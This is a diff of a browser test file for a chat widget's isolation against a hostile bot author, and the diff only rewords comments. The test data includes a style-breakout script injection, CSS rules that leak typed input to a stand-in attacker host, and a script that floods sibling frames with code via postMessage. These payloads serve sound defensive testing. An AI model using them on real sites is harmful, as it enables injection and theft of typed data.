@@ -6,7 +6,7 @@ import { signIntoBrowser } from '../support/oauthFlow.js';
 import { makePublished, restOf, useApp } from '../support/useApp.js';
 import { describeInBrowser, useBrowser } from '../support/useBrowser.js';
 
-/** What an attacker wants to run. */
+/** Code of an attacker. */
 const CODE = 'window.hacked = true';
 
 const text = (...richText: readonly object[]): BlockSketch => ({
@@ -14,11 +14,11 @@ const text = (...richText: readonly object[]): BlockSketch => ({
   content: { richText },
 });
 
-/** Everything on the page, as far away and as much over it as a style sheet can say. */
+/** Declarations that move an element over the whole page, as far as a style sheet can. */
 const OVER = `position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; contain: none !important;
   width: 100vw !important; height: 100vh !important; display: block !important; background: red !important; clip: auto !important`;
 
-/** A style sheet that tries to leave the chat by every way there is. */
+/** A style sheet that tries every way to leave the chat. */
 const OUTWARD = `
   @namespace x url(x); @import url(https://evil.example.com/import.css);
   </style><script>${CODE}</script>
@@ -35,19 +35,19 @@ const OUTWARD = `
   input[value^='s'] { background: url(https://evil.example.com/typed) !important }
 `;
 
-/** A page that gives code of its own to every frame beside it, over and over. */
+/** A page that repeatedly sends its own code to every frame beside it. */
 const FLOOD = `<script>setInterval(() => {
   for (let at = 0; at < parent.length; at += 1) parent[at].postMessage({ content: 'self.stolen = 1', args: [] }, '*');
 }, 5)</script>`;
 
-/** What it may ask other hosts for. */
+/** The requests to other hosts that are allowed. */
 const FONTS = ['font', 'mine'].map((name) => `https://evil.example.com/${name}.woff2`);
 
 describeInBrowser('a bot of a hostile author', () => {
   const app = useApp();
   const { open, openContext, siteWith } = useBrowser();
 
-  /** What is on top at a place of the page: an element of the page itself, or the chat. */
+  /** The topmost element at a place of the page: one of the page itself, or the chat. */
   const topAt = async (page: Page, x: number, y: number): Promise<unknown> =>
     page.evaluate(`document.elementFromPoint(${x}, ${y}).id`);
 
@@ -88,7 +88,7 @@ describeInBrowser('a bot of a hostile author', () => {
     await popup.getByRole('button', { name: 'Close the chat' }).click();
     expect(await page.getByRole('dialog').count()).toBe(0);
 
-    // What is typed stays here until it is sent, and the fonts of the site are its own.
+    // Typed text stays in the page until it is sent, and the chat uses its own fonts.
     await inline.getByRole('textbox').fill('secret');
     const looks: unknown = await page.evaluate(`(async () => {
       await document.fonts.load('16px "Of the site"').catch(() => undefined);
